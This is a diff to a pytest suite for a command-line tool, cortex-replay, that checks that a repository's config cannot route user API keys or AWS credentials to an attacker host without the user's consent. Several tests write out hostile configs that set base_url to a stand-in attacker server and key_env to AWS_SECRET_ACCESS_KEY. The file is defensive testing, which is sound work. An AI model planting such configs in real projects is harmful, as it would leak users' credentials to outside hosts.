@@ -6,6 +6,7 @@ proxy of the child process, and plain HTTP goes to a proxy whole.
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import socket
@@ -14,9 +15,12 @@ import sys
 import threading
 from collections.abc import Iterator
 from pathlib import Path
+from unittest.mock import patch
 
 import pytest
+from click.testing import CliRunner, Result
 
+from cortex_replay.cli.main import main
 from cortex_replay.config import key_for, load_settings
 from cortex_replay.config.keys import known_secrets
 from cortex_replay.config.servers import server_of
@@ -103,18 +107,25 @@ class Clone:
     def says(self, text: str) -> None:
         (self.root / "cortex-replay.toml").write_text(text)
 
-    def run(self, *words: str, **environment: str) -> subprocess.CompletedProcess[str]:
-        return subprocess.run(
+    def run(self, *words: str, **environment: str) -> Result:
+        """A command, in this process, which then has no other environment than the user's."""
+        with patch.dict(os.environ, self.environment | environment, clear=True), contextlib.chdir(self.root):
+            return CliRunner().invoke(main, words)
+
+    def run_process(self, *words: str) -> str:
+        """A command in a process of its own, and all that it says."""
+        result = subprocess.run(
             [*self._tool, *words],
             cwd=self.root,
-            env=self.environment | environment,
+            env=self.environment,
             capture_output=True,
             text=True,
             timeout=60,
             check=False,
         )
+        return result.stdout + result.stderr
 
-    def record(self, **environment: str) -> subprocess.CompletedProcess[str]:
+    def record(self, **environment: str) -> Result:
         return self.run("record", "--model", "m", "--prompt", "Hi", **environment)
 
 
@@ -150,7 +161,7 @@ def test_a_repository_gets_no_key(clone: Clone, sink: Sink, key: str) -> None:
 
     assert SECRET.encode() not in sink.received
     assert sink.received == b""
-    assert result.returncode == 2, result.stderr
+    assert result.exit_code == 2, result.stderr
     assert SECRET not in result.stdout + result.stderr
 
 
@@ -173,48 +184,42 @@ def test_the_server_of_a_built_in_provider_is_changed(clone: Clone, sink: Sink) 
     assert sink.received == b""
 
 
-def gateway(clone: Clone, header: str, name: str = "openai", **environment: str) -> str:
-    """What a client behind the gateway is told that brings a key of its own."""
-    code = (
-        "import os, urllib.request as u, urllib.error as e\n"
-        f"r = u.Request(os.environ['CORTEX_REPLAY_GATEWAY'].rstrip('/') + '/{name}/v1/chat/completions',"
-        ' data=b\'{"model": "m", "messages": [{"role": "user", "content": "Hi"}]}\','
-        f" headers={{'content-type': 'application/json', {header}}})\n"
-        "try: print(u.build_opener(u.ProxyHandler({})).open(r).read().decode())\n"
-        "except e.HTTPError as error: print(error.read().decode())\n"
-    )
-    result = clone.run("record", "--", sys.executable, "-c", code, **environment)
-    return result.stdout + result.stderr
+def gateway(clone: Clone, *headers: dict[str, str]) -> list[str]:
+    """What clients behind the gateway are told, each with a header of its own."""
+    code = f"""
+import os, urllib.request as u, urllib.error as e
+url = os.environ['CORTEX_REPLAY_GATEWAY'].rstrip('/') + '/openai/v1/chat/completions'
+for i, header in enumerate({headers!r}):
+    body = b'{{"model": "m", "stream": true, "messages": [{{"role": "user", "content": "%d"}}]}}' % i
+    request = u.Request(url, data=body, headers={{'content-type': 'application/json', **header}})
+    try:
+        answer = u.build_opener(u.ProxyHandler({{}})).open(request)
+    except e.HTTPError as error:
+        answer = error
+    print(answer.read().decode().replace(chr(10), ' '))
+"""
+    return clone.run_process("record", "--", sys.executable, "-c", code).splitlines()[: len(headers)]
 
 
 def test_the_gateway_injects_no_key(clone: Clone, sink: Sink) -> None:
     """For a client that has none."""
     clone.says(f'[providers.openai]\nbase_url = "{EVIL}"\nkey_env = "AWS_SECRET_ACCESS_KEY"')
-    said = gateway(clone, "'accept': '*/*'")
+    (said,) = gateway(clone, {})
 
     assert sink.received == b""
     assert f"cortex-replay trust {EVIL} AWS_SECRET_ACCESS_KEY" in said
 
 
-@pytest.mark.parametrize(
-    "header", ["'authorization': 'Bearer {}'", "'x-api-key': '{}'", "'x-auth-token': '{}'", "'api-key': '{}'"]
-)
-def test_the_gateway_passes_on_no_key_of_a_client(clone: Clone, sink: Sink, header: str) -> None:
-    """Who thinks that it speaks to its provider."""
+def test_the_gateway_passes_on_no_key_of_a_client(clone: Clone, sink: Sink) -> None:
+    """Who thinks that it speaks to its provider. One without a key may ask any server, as ever."""
     clone.says(f'[providers.openai]\nbase_url = "{EVIL}"')
-    said = gateway(clone, header.replace("{}", SECRET))
+    names = ["authorization", "x-api-key", "x-auth-token", "api-key", "x-goog-api-key"]
+    *refused, answered = gateway(clone, *({name: SECRET} for name in names), {"idempotency-key": "abc"})
 
     assert SECRET.encode() not in sink.received
-    assert sink.received == b""
-    assert f"cortex-replay trust {EVIL} client" in said
-
-
-def test_a_client_without_a_key_may_ask_any_server(clone: Clone, sink: Sink) -> None:
-    """As before: a local network's model needs none."""
-    clone.says(f'[providers.openai]\nbase_url = "{EVIL}"')
-    gateway(clone, "'idempotency-key': 'abc'")
-
-    assert b"POST http://llm.attacker.example/v1/chat/completions" in sink.received
+    assert sink.received.count(b"POST ") == 1
+    assert all(f"cortex-replay trust {EVIL} client" in said for said in refused)
+    assert "hi" in answered
 
 
 def test_consent_is_given_remembered_and_taken_back(clone: Clone, sink: Sink) -> None:
@@ -225,19 +230,19 @@ def test_consent_is_given_remembered_and_taken_back(clone: Clone, sink: Sink) ->
     file = clone.home / ".config/cortex-replay/trust.toml"
     result = clone.record()
 
-    assert (asked.returncode, json.loads(asked.stdout)["asked"][0]["allowed"]) == (4, False)
-    assert given.returncode == 0, given.stderr
+    assert (asked.exit_code, json.loads(asked.stdout)["asked"][0]["allowed"]) == (4, False)
+    assert given.exit_code == 0, given.stderr
     assert file.stat().st_mode & 0o777 == 0o600
-    assert result.returncode == 0, result.stderr
+    assert result.exit_code == 0, result.stderr
     assert SECRET.encode() in sink.received
-    assert clone.run("trust").returncode == 0
+    assert clone.run("trust").exit_code == 0
     assert SECRET not in file.read_text()
 
     sink.received = b""
-    assert clone.record(CI="true").returncode == 2  # nothing that is remembered counts there
+    assert clone.record(CI="true").exit_code == 2  # nothing that is remembered counts there
     assert clone.run("trust", "--list").stdout == f"{EVIL}  AWS_SECRET_ACCESS_KEY\n"
-    assert clone.run("trust", "--remove", EVIL).returncode == 0
-    assert clone.run("record", "--model", "m", "--prompt", "Again").returncode == 2
+    assert clone.run("trust", "--remove", EVIL).exit_code == 0
+    assert clone.run("record", "--model", "m", "--prompt", "Again").exit_code == 2
     assert sink.received == b""
 
 
@@ -253,7 +258,7 @@ def test_consent_for_something_else(clone: Clone, sink: Sink, consent: str) -> N
     """Another scheme, another port, another key."""
     clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
 
-    assert clone.record(CORTEX_REPLAY_TRUST=consent).returncode == 2
+    assert clone.record(CORTEX_REPLAY_TRUST=consent).exit_code == 2
     assert sink.received == b""
 
 
@@ -264,7 +269,7 @@ def test_consent_for_one_run(clone: Clone, sink: Sink) -> None:
     by_variable = clone.record(CORTEX_REPLAY_TRUST=consent, CI="1")
     by_flag = clone.run("--trust", consent, "record", "--model", "m", "--prompt", "2", CI="1")
 
-    assert (by_variable.returncode, by_flag.returncode) == (0, 0), by_flag.stderr
+    assert (by_variable.exit_code, by_flag.exit_code) == (0, 0), by_flag.stderr
     assert sink.received.count(SECRET.encode()) == 2
 
 
@@ -282,7 +287,7 @@ def test_a_trust_file_that_is_not_the_users_own(clone: Clone, sink: Sink, spoil:
     else:
         file.write_text("trust = 1")
 
-    assert clone.record().returncode == 2
+    assert clone.record().exit_code == 2
     assert sink.received == b""
 
 
@@ -297,11 +302,10 @@ def test_replay_asks_for_no_consent(clone: Clone, sink: Sink) -> None:
         "request = LlmRequest('m', messages='Hi', max_tokens=1024)\n"
         "print(asyncio.run(ReplayAdapter(Store.open('.')).complete(request)).text)"
     )
-    result = clone.run("replay", "--", sys.executable, "-c", code)
 
-    assert "hi" in result.stdout, result.stderr
-    assert clone.run("verify").returncode == 0
-    assert clone.run("config").returncode == 0
+    assert "hi\n" in clone.run_process("replay", "--", sys.executable, "-c", code)
+    assert clone.run("verify").exit_code == 0
+    assert clone.run("config").exit_code == 0
     assert sink.received == b""
 
 
@@ -315,14 +319,14 @@ def test_the_user_may_say_what_a_project_may_not(clone: Clone, sink: Sink) -> No
     own.write_text(provider("openai-compat", "http://llm.corp.example/v1", 'key_file = "~/key"', "corp"))
     allowed = clone.record()
 
-    assert allowed.returncode == 0, allowed.stderr
+    assert allowed.exit_code == 0, allowed.stderr
     assert SECRET.encode() in sink.received
 
     sink.received = b""
     clone.says(f'[providers.corp]\nbase_url = "{EVIL}"')
-    assert clone.run("record", "--model", "m", "--prompt", "2").returncode == 2
+    assert clone.run("record", "--model", "m", "--prompt", "2").exit_code == 2
     clone.says('[providers.corp]\nkey_env = "AWS_SECRET_ACCESS_KEY"')
-    assert clone.run("record", "--model", "m", "--prompt", "3").returncode == 2
+    assert clone.run("record", "--model", "m", "--prompt", "3").exit_code == 2
     assert sink.received == b""
 
 
@@ -331,9 +335,9 @@ def test_a_flag_is_the_users_own_choice(clone: Clone, sink: Sink) -> None:
     clone.says(provider("openai-compat", EVIL, ""))
     url = "http://other.example/v1"
 
-    assert clone.run("record", "--model", "m", "--prompt", "1", "--base-url", url).returncode == 0
+    assert clone.run("record", "--model", "m", "--prompt", "1", "--base-url", url).exit_code == 0
     clone.says(provider("openai-compat", EVIL, 'key_env = "AWS_SECRET_ACCESS_KEY"'))
-    assert clone.run("record", "--model", "m", "--prompt", "2", "--base-url", url).returncode == 2
+    assert clone.run("record", "--model", "m", "--prompt", "2", "--base-url", url).exit_code == 2
     assert SECRET.encode() not in sink.received
 
 
